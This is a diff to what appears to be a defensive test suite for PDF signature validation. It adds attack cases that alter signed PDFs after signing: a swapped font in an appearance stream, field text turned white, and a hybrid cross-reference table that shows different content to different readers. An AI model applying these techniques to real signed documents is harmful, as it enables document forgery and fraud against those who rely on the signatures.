@@ -5,6 +5,8 @@ from __future__ import annotations
 import re
 from typing import Final
 
+from pyhanko.sign.fields import MDPPerm
+
 from tests.pdf_attacks.catalogue import (
     COVER,
     DRAWING,
@@ -77,6 +79,30 @@ def _appearance(victims: Victims) -> bytes:
     new = size_of(signed)
     font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
     return _form_with(signed, b"/DA(/New 40 Tf 0 g)/DR<</Font<</New %d 0 R>>>>" % new, {new: font})
+
+
+@attack("a font that a look asks for, put into the form", OURS)
+def _font_of_a_look(victims: Victims) -> bytes:
+    """Give a look the font that it lacks: readers take the form's, whose figures are others."""
+    data = form_pdf()
+    look = stream(b"BT /New 12 Tf (1.00) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 100 20]/Resources<<>>")
+    signed = victims.signing.sign(append(data, {24: look}))
+    number, body = form_object(signed)
+    new = size_of(signed)
+    named = re.sub(rb"/Font\s*<<", b"/Font<</New %d 0 R" % new, body)
+    assert named != body
+    return append(signed, {number: named, new: b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>"})
+
+
+@attack("a look of a field whose text turns white", OURS)
+def _white(victims: Victims) -> bytes:
+    """Leave out the black that a default appearance ends with, and white is left."""
+    data = form_pdf()
+    field = raw_object(data, 20).replace(b"/DA(/Fx 12 Tf 0 g)", b"/DA(/Helv 12 Tf 1 g 0 g)")
+    signed = victims.signing.sign(
+        append(data, {20: field}), certify=True, docmdp_permissions=MDPPerm.FILL_FORMS
+    )
+    return append(signed, {20: field.replace(b" 1 g 0 g", b" 1 g")})
 
 
 for _name, _text in {
@@ -190,6 +216,14 @@ def _annotations(victims: Victims) -> bytes:
     assert found is not None
     moved = page.replace(found[1], b" %d 0 R" % new)
     return with_hybrid(victims.plain, {4: moved}, {new: found[1]})
+
+
+@attack("a hybrid table whose stream is repeated for the other readers", OURS)
+def _repeated(victims: Victims) -> bytes:
+    """Let readers that do not follow /XRefStm see the draft until all are shown what the others saw when it was signed."""
+    data, new = small_pdf(), size_of(small_pdf())
+    signed = victims.signing.sign(with_hybrid(data, {new: b"null"}, {5: stream(EVIL)}))
+    return append(signed, {5: stream(EVIL)})
 
 
 @attack("a hybrid table that lists two bodies of an object", OURS)
